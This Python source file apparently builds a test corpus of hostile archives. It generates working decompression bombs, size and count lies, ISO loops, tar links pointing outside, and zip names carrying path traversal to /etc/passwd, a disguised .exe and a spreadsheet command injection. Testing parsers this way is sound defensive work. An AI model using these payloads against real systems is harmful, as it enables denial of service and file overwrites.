"""Archives and compressed files made by hand to harm: they expand, lie about sizes, lead out, turn in circles. Yields (kind, path, bytes)."""
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

import craft
from craft import be, le
from seeds import stored

MIB = 1 << 20
ZEROS = bytes(MIB)


def deflated(mib):
    """Raw deflate of so many MiB of zeros, in one stream."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = pack.compress(ZEROS) + pack.flush(zlib.Z_FULL_FLUSH)
    return block * mib + b"\x03\0"


def crc_of_zeros(mib, crc=0):
    for _ in range(mib):
        crc = zlib.crc32(ZEROS, crc)
    return crc


def gzip_bomb(mib):
    return b"\x1f\x8b\x08\0\0\0\0\0\2\3" + deflated(mib) + le(crc_of_zeros(mib), mib * MIB)


def zstd_bomb(mib):
    """Blocks of one repeated byte: 32,768 times their size."""
    return b"\x28\xb5\x2f\xfd\0\x58" + ((1 << 17 << 3 | 2).to_bytes(3, "little") + b"\0") * (mib * 8) + (1).to_bytes(3, "little")


def xxh32(data):
    """Of fewer than 16 bytes."""
    prime = (2654435761, 2246822519, 3266489917, 668265263, 374761393)
    rotl = lambda x, r: (x << r | x >> (32 - r)) & 0xFFFFFFFF  # noqa: E731
    out = (prime[4] + len(data)) & 0xFFFFFFFF
    for byte in data:
        out = rotl((out + byte * prime[4]) & 0xFFFFFFFF, 11) * prime[0] & 0xFFFFFFFF
    out = (out ^ out >> 15) * prime[1] & 0xFFFFFFFF
    out = (out ^ out >> 13) * prime[2] & 0xFFFFFFFF
    return out ^ out >> 16


def lz4_bomb(mib):
    block = b"\x1f\0\1\0" + b"\xff" * 16_400 + b"\0" + b"\x50" + bytes(5)
    head = b"\x60\x70"
    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 0xFF]) + (le(len(block)) + block) * (mib // 4) + le(0)


def number7(value):
    return bytes([value]) if value < 0x80 else b"\xff" + struct.pack("<Q", value)


def sevenz(packed, props, size, names=("a.txt",), coder=b"\x03\x01\x01", folders=1, files=None):
    header = b"\1\4\6\0\1\x09" + number7(len(packed)) + b"\0" + b"\7\x0b" + number7(folders) + b"\0"
    header += (b"\1" + bytes([0x20 | len(coder)]) + coder + number7(len(props)) + props) * min(folders, 50) + b"\x0c" + number7(size) + b"\0\0"
    raw = b"\0" + b"".join(name.encode("utf-16-le") + b"\0\0" for name in names)
    header += b"\5" + number7(len(names) if files is None else files) + b"\x11" + number7(len(raw)) + raw + b"\0\0"
    start = struct.pack("<QQL", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + le(zlib.crc32(start)) + start + packed + header


def sevenz_bomb(mib, dictionary=1 << 16, claimed=None):
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2, "mode": lzma.MODE_FAST, "mf": lzma.MF_HC3, "nice_len": 273, "depth": 1}]
    pack = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=filters)
    packed = b"".join(pack.compress(ZEROS) for _ in range(mib)) + pack.flush()
    return sevenz(packed, b"\x5d" + le(dictionary), mib * MIB if claimed is None else claimed)


def local(name, method, crc, packed, size):
    return b"PK\3\4" + le(20, 0, method, 0, 0x5A21, size=2) + le(crc, packed, size) + le(len(name), 0, size=2) + name


def central(name, method, crc, packed, size, offset):
    return b"PK\1\2" + le(20, 20, 0, method, 0, 0x5A21, size=2) + le(crc, packed, size) + le(len(name), 0, 0, 0, 0, size=2) + le(0, offset) + name


def ended(body, directory, count):
    return body + directory + b"PK\5\6" + le(0, 0, count, count, size=2) + le(len(directory), len(body)) + le(0, size=2)


def overlap_bomb(files, mib):
    """Each member quotes the header of the next in a stored block, and ends in the same zeros."""
    kernel, crc = deflated(mib), crc_of_zeros(mib)
    rows = [(b"%04d" % (files - 1), crc, len(kernel), mib * MIB, local(b"%04d" % (files - 1), 8, crc, len(kernel), mib * MIB))]
    text = b""
    for at in range(files - 2, -1, -1):
        head = rows[0][4]
        text = head + text
        crc = crc_of_zeros(mib, zlib.crc32(text))
        packed, size = rows[0][2] + 5 + len(head), mib * MIB + len(text)
        rows.insert(0, (b"%04d" % at, crc, packed, size, local(b"%04d" % at, 8, crc, packed, size)))
    body, directory = b"", b""
    for at, (name, crc, packed, size, head) in enumerate(rows):
        directory += central(name, 8, crc, packed, size, len(body))
        body += head
        if at + 1 < files:
            body += b"\0" + struct.pack("<HH", len(rows[at + 1][4]), len(rows[at + 1][4]) ^ 0xFFFF)
    return ended(body + kernel, directory, files)


def same_data(files, mib):
    """Every entry of the directory names the same bytes."""
    kernel, crc = deflated(mib), crc_of_zeros(mib)
    body = local(b"a", 8, crc, len(kernel), mib * MIB) + kernel
    return ended(body, central(b"a", 8, crc, len(kernel), mib * MIB, 0) * files, files)


def nested(levels, width, leaf):
    for level in range(levels):
        leaf = stored([(f"{level}-{at}.zip" if level else f"{at}.txt", leaf) for at in range(width)])
    return leaf


def tar(rows):
    """Headers as they are given: (name, type, size field, body, link)."""
    out = []
    for name, kind, size, body, *link in rows:
        size = size if isinstance(size, bytes) else b"%011o\0" % size
        head = bytearray(512)
        head[0:100] = name[:100].ljust(100, b"\0")
        head[100:136] = b"0000644\0" + b"0000000\0" * 2 + size
        head[136:148], head[148:156], head[156:157] = b"14000000000\0", b" " * 8, kind
        head[157:257] = (link[0] if link else b"")[:100].ljust(100, b"\0")
        head[257:265] = b"ustar\00000" if kind != b"S" else b"ustar  \0"
        if kind == b"S":
            head[386:410] = b"%011o\0%011o\0" % (1 << 32, 1)
            head[483:495] = b"\x80\0\0\0" + (1 << 40).to_bytes(8, "big")
        head[148:156] = b"%06o\0 " % sum(head)
        out.append(bytes(head) + body + bytes(-len(body) % 512))
    return b"".join(out) + bytes(1024)


def pax(*pairs):
    out = b""
    for key, value in pairs:
        text = b" %s=%s\n" % (key, value)
        size = len(text) + len(str(len(text) + 3))
        out += b"%d" % size + text
    return out


def iso_loop(disc):
    """A folder of the disc is its own parent's extent."""
    out = bytearray(disc)
    root = int.from_bytes(out[32768 + 156 + 2:32768 + 156 + 6], "little") * 2048
    at = root
    while at < len(out) and out[at]:
        if out[at + 25] & 2 and out[at + 32] > 1 or (out[at + 25] & 2 and out[at + 33] > 1):
            out[at + 2:at + 10] = (root // 2048).to_bytes(4, "little") + (root // 2048).to_bytes(4, "big")
        at += out[at]
    return bytes(out)


def iso_huge(disc):
    out = bytearray(disc)
    out[32768 + 156 + 10:32768 + 156 + 18] = b"\xff\xff\xff\x7f" + b"\x7f\xff\xff\xff"
    return bytes(out)


def all_evil(disc, small=False):
    """`small`: what takes long to make is made smaller, under the same name."""
    big = bz2.compress(bytes((4 if small else 64) * MIB))
    bigx = lzma.compress(bytes((4 if small else 64) * MIB), preset=1)
    yield "document/gzip", "bomb-1-GiB.gz", gzip_bomb(128 if small else 1024)
    yield "document/gzip", "bomb-8-GiB.csv.gz", gzip_bomb(256 if small else 8192)
    yield "document/gzip", "bomb-in-bomb.gz", gzip.compress(gzip_bomb(256 if small else 4096), 9, mtime=0)
    yield "document/gzip", "sixteen-levels.gz", levels(lambda body: gzip.compress(body, mtime=0), gzip_bomb(64), 20)
    yield "document/gzip", "members.gz", gzip.compress(b"", mtime=0) * 200_000
    yield "document/gzip", "name-without-end.gz", b"\x1f\x8b\x08\x08\0\0\0\0\2\3" + b"A" * MIB
    yield "document/bzip2", "bomb-4-GiB.bz2", big * 64
    yield "document/bzip2", "levels.bz2", levels(bz2.compress, b"a note\n", 30)
    yield "document/xz", "bomb-4-GiB.xz", bigx * 64
    yield "document/xz", "dictionary-4-GiB.xz", bend_xz(lzma.compress(craft.STAFF))
    yield "document/zstd", "bomb-16-GiB.zst", zstd_bomb(16384)
    yield "document/zstd", "window-2-GiB.zst", b"\x28\xb5\x2f\xfd\0\xa8" + ((1 << 17 << 3 | 2).to_bytes(3, "little") + b"\0") * 8 + (1).to_bytes(3, "little")
    yield "document/zstd", "window-max.zst", b"\x28\xb5\x2f\xfd\0\xff" + ((1 << 17 << 3 | 2).to_bytes(3, "little") + b"a") * 40_000 + (1).to_bytes(3, "little")
    yield "document/zstd", "frames.zst", b"\x28\xb5\x2f\xfd\x20\0\1\0\0" * 100_000
    yield "document/zstd", "skippable.zst", b"\x50\x2a\x4d\x18\xff\xff\xff\xff" + b"\x28\xb5\x2f\xfd" * 1000
    yield "document/lz4", "bomb-1-GiB.lz4", lz4_bomb(1024)
    yield "document/lz4", "frames.lz4", b"\x04\x22\x4d\x18\x60\x70" + bytes([xxh32(b"\x60\x70") >> 8 & 0xFF]) + le(0) + (b"\x04\x22\x4d\x18\x60\x70" + bytes([xxh32(b"\x60\x70") >> 8 & 0xFF]) + le(0)) * 90_000
    yield "document/sevenz", "bomb-half-GiB.7z", sevenz_bomb(16 if small else 512)
    yield "document/sevenz", "dictionary-4-GiB.7z", sevenz_bomb(1, dictionary=0xFFFFFFFF)
    yield "document/sevenz", "size-of-all.7z", sevenz_bomb(1, claimed=0x7FFFFFFFFFFFFFFF)
    yield "document/sevenz", "files-4-billion.7z", sevenz(b"", b"\x5d" + le(65536), 0, files=0xFFFFFFFF)
    yield "document/sevenz", "folders-2-billion.7z", sevenz(b"", b"\x5d" + le(65536), 0, folders=0x7FFFFFFF)
    yield "document/sevenz", "ppmd-4-GiB.7z", sevenz(bytes(200), b"\x40" + le(0xFFFFFFFF), 1 << 30, coder=b"\x03\x04\x01")
    yield "document/sevenz", "header-of-2-EiB.7z", b"7z\xbc\xaf\x27\x1c\0\4" + le(zlib.crc32(struct.pack("<QQL", 0, 1 << 61, 0))) + struct.pack("<QQL", 0, 1 << 61, 0)
    yield "document/zip", "overlap.zip", overlap_bomb(20 if small else 200, 16)
    yield "document/zip", "same-data.zip", same_data(2000, 16)
    yield "document/zip", "sixteen-to-the-five.zip", nested(5, 16, bytes(MIB))
    yield "document/zip", "forty-levels.zip", nested(40, 1, b"a note\n")
    yield "document/zip", "100-thousand-members.zip", stored(((f"{at // 1000}/{at}.txt", b"") for at in range(60_000)), 0)
    yield "document/zip", "65535-of-one.zip", ended(local(b"a", 0, 0, 0, 0), central(b"a", 0, 0, 0, 0, 0) * 65_535, 65_535)
    yield "document/zip", "names-out.zip", stored([("../../../../etc/passwd", b"x"), ("/etc/shadow", b"x"), ("C:\\x\\y", b"x"), ("a/../../b", b"x"), ("\x1b]0;t\x07", b"x"), ("\u202egnp.exe", b"x"), ("", b"x"), ("a\nb", b"x"), ("a" * 65_000, b"x"), ("=cmd|' /C calc'!A1", b"x")])
    yield "document/zip", "size-lies.zip", stored([("a.txt", b"note" * 999)]).replace(le(3996), le(0xFFFFFFFF))
    yield "document/zip", "comment.zip", stored([("a.txt", b"x")])[:-2] + b"\xff\xff" + b"PK\5\6" * 16_383
    yield "document/zip", "zip64-of-all.zip", ended(local(b"a", 0, 0, 0, 0), central(b"a", 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)[:-1], 1)
    yield "document/tar", "sparse-1-TiB.tar", tar([(b"sparse.bin", b"S", 512, bytes(512))])
    yield "document/tar", "pax-sparse-1-TiB.tar", tar([(b"p", b"x", len(sparse := pax((b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"a.bin"), (b"GNU.sparse.realsize", b"1099511627776"), (b"size", b"512"))), sparse), (b"GNUSparseFile.0/a", b"0", 512, b"0\n".ljust(512, b"\0"))])
    yield "document/tar", "pax-size-of-all.tar", tar([(b"p", b"x", len(body := pax((b"size", b"9223372036854775807"), (b"path", b"a" * 9000))), body), (b"a.txt", b"0", 0, b"")])
    yield "document/tar", "pax-length-lies.tar", tar([(b"p", b"x", 60, b"99999999999999999999 path=a\n0 path=b\n-5 path=c\n3 a\n")] * 50)
    yield "document/tar", "pax-globals.tar", tar([(b"g", b"g", len(body := pax((b"comment", b"x" * 400))), body)] * 5000 + [(b"a.txt", b"0", 6, b"a note")])
    yield "document/tar", "long-name-1-GiB.tar", tar([(b"././@LongLink", b"L", 1 << 30, b"a" * 2000), (b"a.txt", b"0", 6, b"a note")])
    yield "document/tar", "long-names.tar", tar([(b"././@LongLink", b"L", 60_000, b"a/" * 30_000), (b"a.txt", b"0", 6, b"a note")] * 50)
    yield "document/tar", "size-negative.tar", tar([(b"a.txt", b"0", b"\xff" * 12, b""), (b"b.txt", b"0", b"\x80" + b"\xff" * 11, b"x"), (b"c.txt", b"0", b"-0000000001\0", b"x")])
    yield "document/tar", "links-out.tar", tar([(b"a", b"2", 0, b"", b"/etc/passwd"), (b"b", b"1", 0, b"", b"../../x"), (b"c", b"3", 0, b""), (b"d", b"6", 0, b""), (b"a/x", b"0", 2, b"hi"), (b"l", b"2", 0, b"", b"l")])
    yield "document/tar", "50-thousand-members.tar", tar([(b"%d.txt" % at, b"0", 0, b"") for at in range(50_000)])
    yield "document/gzip", "million-members.tar.gz", million(60 if small else 489)
    many = io.BytesIO()
    with tarfile.open(fileobj=many, mode="w") as archive:
        for at in range(200):
            info = tarfile.TarInfo(f"{at}.tar.gz")
            body = gzip_bomb(8)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    yield "document/tar", "two-hundred-bombs.tar", many.getvalue()
    yield "document/cpio", "size-4-GiB.cpio", craft.cpio([("a.txt", 0o100644, b"x" * 40)]).replace(b"00000028", b"ffffffff", 1)
    yield "document/cpio", "name-4-GiB.cpio", craft.cpio([("abcdefghi", 0o100644, b"x")]).replace(b"0000000a", b"ffffffff", 1)
    yield "document/cpio", "old.cpio", b"070707" + b"7" * 70 + b"a\0" * 99
    yield "document/ar", "size-10-GB.ar", craft.ar([("a.txt/", b"x" * 40)]).replace(b"40        `", b"9999999999`")
    yield "document/ar", "size-negative.ar", craft.ar([("a.txt/", b"x" * 40)]).replace(b"40        `", b"-1        `")
    yield "document/ar", "names-nowhere.ar", craft.ar([("//", b"a/\n"), ("/99999999999", b"x"), ("/-1", b"x"), ("#1/99999999", b"x")])
    yield "document/rpm", "index-4-billion.rpm", craft.rpm(b"").replace(be(1, 4), be(0xFFFFFFFF, 0xFFFFFFFF))
    yield "document/rpm", "bomb.rpm", craft.rpm(gzip_bomb(64 if small else 2048))
    whole = craft.cab([("a.txt", craft.STAFF * 2000)])
    yield "document/cab", "size-4-GiB.cab", whole[:44] + le(0xFFFFFFFF) + whole[48:]
    yield "document/cab", "folders-65535.cab", whole[:26] + b"\xff\xff\xff\xff" + whole[30:]
    yield "document/cab", "data-loop.cab", whole[:36] + le(0) + whole[40:]
    yield "document/cab", "lzx-window.cab", whole[:42] + b"\3\x1f" + whole[44:]
    yield "document/cab", "same-data.cab", many_in_cab(65_000)
    yield "document/iso", "loop.iso", iso_loop(disc)
    yield "document/iso", "root-2-GiB.iso", iso_huge(disc)
    yield "document/iso", "end-of-it.iso", disc[:36_000]


def million(blocks):
    """A tar of two thousand empty members a block, packed to two bytes each."""
    block = tar([(b"a.txt", b"0", 0, b"")])[:512] * 2048
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc = [], 0
    for piece in [block] * blocks + [bytes(1024)]:
        out.append(pack.compress(piece))
        crc = zlib.crc32(piece, crc)
    return b"\x1f\x8b\x08\0\0\0\0\0\2\3" + b"".join(out) + pack.flush() + le(crc, (blocks * len(block) + 1024) % (1 << 32))


def levels(pack, body, deep):
    for _ in range(deep):
        body = pack(body)
    return body


def bend_xz(data):
    """The dictionary of the first block becomes as large as can be, its sum right again."""
    out = bytearray(data)
    size = (out[12] + 1) * 4
    at = out.index(b"\x21\x01", 12, 12 + size)
    out[at + 2] = 40
    out[12 + size - 4:12 + size] = le(zlib.crc32(bytes(out[12:12 + size - 4])))
    return bytes(out)


def many_in_cab(count):
    """Each file is the whole folder again."""
    whole = craft.cab([("a", bytes(30_000))])
    entry = whole[44:44 + 18]
    data = whole[44 + 18:]
    head = bytearray(whole[:44])
    head[28:30] = le(count, size=2)
    head[36:40] = le(44 + len(entry) * count)
    head[8:12] = le(44 + len(entry) * count + len(data))
    return bytes(head) + entry * count + data
